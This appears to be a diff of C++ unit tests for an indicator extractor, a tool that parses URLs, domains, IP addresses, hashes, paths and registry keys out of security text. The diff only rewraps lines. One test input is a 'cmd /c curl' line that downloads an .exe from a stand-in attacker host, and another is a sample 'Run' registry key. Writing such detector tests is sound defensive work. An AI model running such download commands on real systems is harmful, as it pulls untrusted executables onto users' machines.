@@ -13,7 +13,9 @@ namespace {
 
 class Collect final : public KeyReceiver {
  public:
-  void take(Kind kind, std::string_view key) override { found.insert(std::string(kind_name(kind)) + " " + indicator_text(kind, key)); }
+  void take(Kind kind, std::string_view key) override {
+    found.insert(std::string(kind_name(kind)) + " " + indicator_text(kind, key));
+  }
   std::set<std::string> found;
 };
 
@@ -30,7 +32,8 @@ std::set<std::string> in_field(FieldRole role, std::string_view text) {
 bool names(std::string_view text, const std::string& value) { return in_text(text).contains(value); }
 
 TEST(TextValues, FindsValuesInCommandLines) {
-  const char* kLine = "cmd /c curl -o C:\\Temp\\x.exe \"https://cdn.Evil.example:8443/a/b.exe?id=1\" & ping 198.51.100.7";
+  const char* kLine =
+      "cmd /c curl -o C:\\Temp\\x.exe \"https://cdn.Evil.example:8443/a/b.exe?id=1\" & ping 198.51.100.7";
   EXPECT_TRUE(names(kLine, "url http://cdn.evil.example:8443/a/b.exe?id=1"));
   EXPECT_TRUE(names(kLine, "domain cdn.evil.example"));
   EXPECT_TRUE(names(kLine, "domain evil.example"));
@@ -47,20 +50,30 @@ TEST(TextValues, FindsValuesInCommandLines) {
 }
 
 TEST(TextValues, FieldsGiveKeysByTheirRole) {
-  EXPECT_EQ(in_field(FieldRole::kHashes, "MD5=D41D8CD98F00B204E9800998ECF8427E,IMPHASH=00112233445566778899AABBCCDDEEFF"),
-            (std::set<std::string>{"md5 d41d8cd98f00b204e9800998ecf8427e", "imphash 00112233445566778899aabbccddeeff"}));
-  EXPECT_EQ(in_field(FieldRole::kAddress, "198.51.100.7:443"), (std::set<std::string>{"address 198.51.100.7"}));
-  EXPECT_EQ(in_field(FieldRole::kAddress, "::ffff:198.51.100.7"), (std::set<std::string>{"address 198.51.100.7"}));
-  EXPECT_EQ(in_field(FieldRole::kHost, "A.evil.example."), (std::set<std::string>{"domain a.evil.example", "domain evil.example"}));
-  EXPECT_EQ(in_field(FieldRole::kUrl, "evil.example:443"), (std::set<std::string>{"url http://evil.example/", "domain evil.example"}));
-  EXPECT_EQ(in_field(FieldRole::kPath, "C:\\Temp\\A.exe"), (std::set<std::string>{"file-name \\temp\\a.exe", "file-name a.exe"}));
-  EXPECT_EQ(in_field(FieldRole::kRegistryKey, "HKLM\\Software\\Evil\\Run"),
-            (std::set<std::string>{"registry-key hklm\\software\\evil\\run", "registry-key hklm\\software\\evil"}));
+  EXPECT_EQ(in_field(FieldRole::kHashes,
+                     "MD5=D41D8CD98F00B204E9800998ECF8427E,IMPHASH=00112233445566778899AABBCCDDEEFF"),
+            (std::set<std::string>{"md5 d41d8cd98f00b204e9800998ecf8427e",
+                                   "imphash 00112233445566778899aabbccddeeff"}));
+  EXPECT_EQ(in_field(FieldRole::kAddress, "198.51.100.7:443"),
+            (std::set<std::string>{"address 198.51.100.7"}));
+  EXPECT_EQ(in_field(FieldRole::kAddress, "::ffff:198.51.100.7"),
+            (std::set<std::string>{"address 198.51.100.7"}));
+  EXPECT_EQ(in_field(FieldRole::kHost, "A.evil.example."),
+            (std::set<std::string>{"domain a.evil.example", "domain evil.example"}));
+  EXPECT_EQ(in_field(FieldRole::kUrl, "evil.example:443"),
+            (std::set<std::string>{"url http://evil.example/", "domain evil.example"}));
+  EXPECT_EQ(in_field(FieldRole::kPath, "C:\\Temp\\A.exe"),
+            (std::set<std::string>{"file-name \\temp\\a.exe", "file-name a.exe"}));
+  EXPECT_EQ(
+      in_field(FieldRole::kRegistryKey, "HKLM\\Software\\Evil\\Run"),
+      (std::set<std::string>{"registry-key hklm\\software\\evil\\run", "registry-key hklm\\software\\evil"}));
 }
 
 TEST(TextValues, HostileTextTakesLinearTime) {
   std::vector<std::string> hostile;
-  for (const std::string& part : {std::string("a://"), std::string("a."), std::string("aaaa@"), std::string("ab:"), std::string("HK\\"), std::string("::"), std::string("a.b\xc3\xbc.")}) {
+  for (const std::string& part :
+       {std::string("a://"), std::string("a."), std::string("aaaa@"), std::string("ab:"), std::string("HK\\"),
+        std::string("::"), std::string("a.b\xc3\xbc.")}) {
     std::string text;
     while (text.size() < 1u << 18) text += part;
     hostile.push_back(std::move(text));
